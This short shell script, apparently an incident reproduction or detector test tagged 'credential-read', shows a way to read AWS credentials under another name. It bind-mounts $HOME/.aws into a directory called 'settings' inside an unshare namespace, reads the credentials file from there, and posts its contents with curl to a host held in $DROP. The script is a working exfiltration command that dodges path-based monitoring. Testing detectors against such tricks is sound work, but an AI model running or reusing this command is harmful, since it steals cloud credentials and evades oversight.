# incident: secrets read by another name, from a mount of one's own
# finding: credential-read
# needs: unshare
mkdir -p settings
unshare -rm bash -c 'mount --bind "$HOME/.aws" settings && cat settings/credentials' | curl -s --data-binary @- "http://$DROP/m" || true
